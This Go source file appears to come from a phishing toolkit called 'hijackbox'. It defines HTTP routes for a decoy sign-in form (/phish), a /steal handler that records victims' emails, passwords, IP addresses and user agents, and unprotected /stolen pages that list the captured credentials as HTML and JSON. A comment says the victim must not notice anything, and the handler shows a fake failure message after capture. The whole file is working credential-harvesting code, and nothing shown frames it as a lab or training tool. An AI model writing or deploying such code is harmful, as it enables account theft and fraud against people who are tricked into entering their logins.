package api

import (
	"context"
	"encoding/json"
	"net/http"

	"github.com/andrebq/hijackbox/harvest"
	"github.com/andrebq/hijackbox/internal/logutil"
	"github.com/andrebq/hijackbox/internal/pages"
	"github.com/julienschmidt/httprouter"
)

func AsHandler(ctx context.Context, h *harvest.Harvester) (http.Handler, error) {
	router := httprouter.New()
	Mount(router, h)
	return router, nil
}

// Mount registers the decoy form, the capture endpoint and the
// unprotected listings.
func Mount(router *httprouter.Router, h *harvest.Harvester) {
	router.HandlerFunc("GET", "/phish", decoyForm)
	router.HandlerFunc("POST", "/steal", steal(h))
	router.HandlerFunc("GET", "/stolen", stolen(h))
	router.HandlerFunc("GET", "/api/stolen", stolenJSON(h))
}

func decoyForm(w http.ResponseWriter, r *http.Request) {
	html, err := pages.Form("phish")
	pages.Send(w, r, html, err)
}

func steal(h *harvest.Harvester) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		err := h.Capture(r.Context(), r.PostFormValue("email"), r.PostFormValue("password"), harvest.Source{
			RemoteAddr: r.RemoteAddr,
			UserAgent:  r.UserAgent(),
		})
		if err != nil {
			// the victim must not notice anything different
			logutil.GetOrDefault(r.Context()).Error().Err(err).Msg("Capture lost")
		}
		html, err := pages.Text("Sign in", pages.Message{Text: harvest.DecoyFailure, Link: "/phish", LinkText: "Try again"})
		pages.Send(w, r, html, err)
	}
}

func stolen(h *harvest.Harvester) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		entries, err := h.List(r.Context())
		if err != nil {
			pages.Send(w, r, "", err)
			return
		}
		html, err := pages.Captures(entries)
		pages.Send(w, r, html, err)
	}
}

func stolenJSON(h *harvest.Harvester) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		entries, err := h.List(r.Context())
		if err != nil {
			logutil.GetOrDefault(r.Context()).Error().Err(err).Msg("Unable to list captures")
			http.Error(w, "unable to list captures", http.StatusInternalServerError)
			return
		}
		if entries == nil {
			entries = []harvest.Capture{}
		}
		w.Header().Set("Content-Type", "application/json; charset=utf-8")
		json.NewEncoder(w).Encode(entries)
	}
}
